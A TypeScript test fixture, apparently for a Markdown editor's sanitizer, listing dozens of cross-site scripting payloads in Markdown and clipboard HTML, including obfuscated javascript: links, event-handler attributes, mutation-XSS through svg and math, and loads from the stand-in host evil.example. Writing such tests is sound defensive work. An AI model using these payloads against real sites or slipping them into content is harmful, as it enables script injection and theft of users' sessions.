/**
 * Markdown texts that try to run a script, by technique: each sets `window.hit` on success and ends with `harmless`.
 */
export const hostileTexts: [what: string, markdown: string][] = [
  ['a script', '<script>window.hit=1</script>'],
  ['a script in halves', '<scr<script>ipt>window.hit=1</scr</script>ipt>'],
  ['a script of another site', '<script src="//evil.example/x.js"></script>'],
  ['a picture that fails', '<img src="/none.png" onerror="window.hit=1">'],
  ['a picture whose tag does not end', '<img src=x onerror=window.hit=1//'],
  ['an attribute without a space before it', '<img/src="/none.png"/onerror=window.hit=1>'],
  ['a picture that breaks out of its alt text', '![a" onerror="window.hit=1](/none.png)'],
  ['a picture that breaks out of its caption', '![a](/none.png "b\' onerror=window.hit=1 \\" onload=\\"window.hit=1")'],
  ['a picture that is a script', '![a](javascript:window.hit=1)'],
  ['a picture that is an svg', '![a](data:image/svg+xml,%3Csvg%20onload=window.hit=1%3E)'],
  ['a link that is a script', '[a](javascript:window.hit=1)'],
  ['a link in capitals', '[a](JaVaScRiPt:window.hit=1)'],
  ['a link with an entity', '[a](java&#115;cript&colon;window.hit=1)'],
  ['a link with a tab', '<a href="java&Tab;script:window.hit=1">a</a> [b](<java\tscript:window.hit=1>)'],
  ['a link with a line break', '<a href="java&#10;script:window.hit=1">a</a>'],
  ['a link with a control character before it', '<a href="&#1;javascript:window.hit=1">a</a>'],
  ['a link to a page of its own', '[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)'],
  ['a link by reference', '[a][b]\n\n[b]: javascript:window.hit=1'],
  ['an address between angles', '<javascript:window.hit=1>'],
  ['an address of mail that is a script', '<mailto:"onclick=window.hit=1"@evil.example>'],
  ['a link that breaks out of its title', '[a](/about "b\\" onmouseover=\\"window.hit=1")'],
  ['what is put into a link twice', '[![a](/none.png)](vbscript:window.hit=1)'],
  ['an svg', '<svg onload="window.hit=1"><animate onbegin=window.hit=1 attributeName=x dur=1s></svg>'],
  ['an svg with a style that hides a picture', '<svg><style><img src=x onerror=window.hit=1></style></svg>'],
  ['an svg with a link', '<svg><a xlink:href="javascript:window.hit=1"><text y="20">a</text></a></svg>'],
  ['math', '<math><mi xlink:href="javascript:window.hit=1">a</mi></math>'],
  [
    'math that is another tree when it is read again',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.hit=1&gt;"></style></mglyph></table></mtext></math>',
  ],
  [
    'a form in a form that is another tree when it is read again',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1></style></mglyph></form></mtext></math>',
  ],
  ['a text that ends where it does not', '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">'],
  ['a text of plain letters', '<xmp><p title="</xmp><img src=x onerror=window.hit=1>">'],
  ['a comment that ends early', '<!--><img src=x onerror=window.hit=1>-->'],
  ['a comment that ends in another way', '<!-- --!><img src=x onerror=window.hit=1> -->'],
  ['a section of characters', '<![CDATA[<img src=x onerror=window.hit=1>]]>'],
  ['a template', '<template><img src=x onerror=window.hit=1></template>'],
  [
    'a frame',
    '<iframe srcdoc="<script>parent.hit=1</script>"></iframe><iframe src="javascript:parent.hit=1"></iframe>',
  ],
  ['an object', '<object data="javascript:window.hit=1"></object><embed src="javascript:window.hit=1">'],
  ['a form', '<form action="javascript:window.hit=1"><button formaction="javascript:window.hit=1">Go</button></form>'],
  ['a field with the focus', '<input autofocus onfocus=window.hit=1>'],
  ['details that open', '<details open ontoggle=window.hit=1>a</details>'],
  ['a film', '<video src=x onerror=window.hit=1><source onerror=window.hit=1></video>'],
  ['a heading', '<h2 id="a" onclick="window.hit=1" style="animation:x" onanimationstart="window.hit=1">a</h2>'],
  ['a style', '<style>@import "//evil.example/x.css"; body { display: none }</style>'],
  [
    'another base and page',
    '<base href="//evil.example"><meta http-equiv=refresh content="0;url=javascript:window.hit=1">',
  ],
  ['a name that the page goes by', '<a id="state" name="cookie" href="/about">a</a>'],
  ['code that ends early', '```html" onload="window.hit=1\n</code></pre><script>window.hit=1</script>\n```'],
  ['a cell of a table', '| a |\n| --- |\n| <img src=x onerror=window.hit=1> [b](javascript:window.hit=1) |'],
  ['a video with a quote', 'https://youtu.be/dQw4w9WgXcQ"onclick="window.hit=1'],
  ['a video with a tag', 'https://youtu.be/dQw4w9WgXcQ?a="><img/src=x/onerror=window.hit=1>'],
  ['a video with brackets', '[https://youtu.be/dQw4w9WgXcQ](javascript:window.hit=1)'],
  ['a video with a line break', '<https://youtu.be/dQw4w9WgXcQ\njavascript:window.hit=1>'],
  ['a video that is somewhere else', 'https://youtu.be@evil.example/dQw4w9WgXcQ'],
  ['a video by a script', 'javascript://youtu.be/dQw4w9WgXcQ%0awindow.hit=1'],
  [
    'a card of a video by hand',
    '<figure class="video" data-video="javascript:window.hit=1"><a href="javascript:window.hit=1" data-player="javascript:window.hit=1">a</a></figure>',
  ],
  [
    'a block that the editor shows as it is',
    '<pre data-markdown="" onclick="window.hit=1"><img src=x onerror=window.hit=1></pre>',
  ],
];

/** Clipboard HTML that changes its tree when parsed again, or has executable attributes. */
export const hostileClipboards: [what: string, html: string][] = [
  [
    'an attribute of the editor’s own',
    '<div data-pm-slice="0 0 []" onclick="window.hit=1"><p onpaste="window.hit=1">a</p></div>',
  ],
  ['a slice that wraps a link', `<p data-pm-slice='1 1 ["link",{"href":"javascript:window.hit=1"}]'>a</p>`],
  ['a slice that wraps a picture', `<p data-pm-slice='1 1 ["image",{"src":"x","onerror":"window.hit=1"}]'>a</p>`],
  ['a block with a source', '<pre data-markdown>&lt;img src=x onerror=window.hit=1&gt;</pre>'],
  ['a video with a quote', '<figure data-video="https://youtu.be/dQw4w9WgXcQ?&quot;onclick=window.hit=1">v</figure>'],
  ['a picture of data', '<img src="data:image/svg+xml,<svg onload=window.hit=1>" alt="a" onload="window.hit=1">'],
  [
    'a picture with sources',
    '<picture onclick="window.hit=1"><source srcset="javascript:window.hit=1"><img src=x srcset="x 1x" onerror=window.hit=1></picture>',
  ],
  ['a link with a tab', '<a href="java&#9;script:window.hit=1" ping="//evil.example" onclick="window.hit=1">a</a>'],
  ['a link with a zero', '<a href="\u0000javascript:window.hit=1">a</a>'],
  [
    'code of a language',
    '<pre><code class="language-&quot;onclick=window.hit=1" onclick="window.hit=1">a</code></pre>',
  ],
  ['a cell', '<table><tr><td onclick="window.hit=1" colwidth="1;window.hit=1" colspan="2000000">a</td></tr></table>'],
];

/** The Markdown texts are hostile as HTML too. */
export const everyClipboard = [...hostileClipboards, ...hostileTexts];
